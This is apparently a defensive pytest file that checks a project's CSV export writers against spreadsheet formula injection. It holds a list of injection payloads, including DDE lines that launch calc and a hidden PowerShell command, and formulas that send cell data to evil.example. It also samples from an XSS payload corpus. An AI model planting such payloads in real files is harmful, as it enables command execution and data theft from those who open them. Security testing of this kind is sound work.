"""Beside tests/security/test_csv_formulas.py: more formula shapes at the start of a cell (bare
operators, DDE, HYPERLINK, tab, CR and CR LF), in every column of every CSV writer (research
stories, excerpts and matrix; the codebook), and hostile markup kept word for word."""

from __future__ import annotations

from datetime import date

import pytest

from storybank.exports.engine import Codebook
from storybank.exports.engine import Excerpt
from storybank.exports.engine import ExportStory
from storybank.exports.engine import Theme
from storybank.exports.engine import excerpts_csv
from storybank.exports.engine import matrix_csv
from storybank.exports.engine import stories_csv
from storybank.tag.export import codebook_csv
from tests.security.csv_cells import assert_no_cell_runs
from tests.security.csv_cells import codebook_with
from tests.security.hostile.xss_corpus import sampled_payloads

FORMULAS = [
    "=",
    "+",
    "-",
    "@",
    "=1+1",
    "-1-1",
    "+1+1",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell -w hidden IEX(1)'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1&B1,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "\t=1+1",
    "\t@SUM(1)",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1\n=2+2",
    "-2+3+cmd|' /C notepad'!A0",
    "+thisIsNotANumber",
]
TEXT_PAYLOADS = sampled_payloads(12, seed=77)


def story(value: str) -> ExportStory:
    return ExportStory(
        7,
        text=value,
        themes=("k",),
        excerpts=(Excerpt("k", 0, len(value)),),
        site=value,
        voice=value,
        story_type=value,
        source=value,
        approved_on=date(2031, 2, 3),
        word_count=3,
    )


@pytest.mark.parametrize("write", [stories_csv, excerpts_csv, matrix_csv])
@pytest.mark.parametrize("payload", FORMULAS + TEXT_PAYLOADS)
def test_every_research_csv_column_is_inert_and_literal(write, payload):
    data = b"".join(write([story(payload)], Codebook(4, (Theme("k", payload, payload),))))
    assert_no_cell_runs(data, payload)


@pytest.mark.parametrize("payload", FORMULAS + TEXT_PAYLOADS)
def test_every_codebook_csv_column_is_inert_and_literal(payload):
    assert_no_cell_runs(codebook_csv(codebook_with(payload, version=5)), payload)
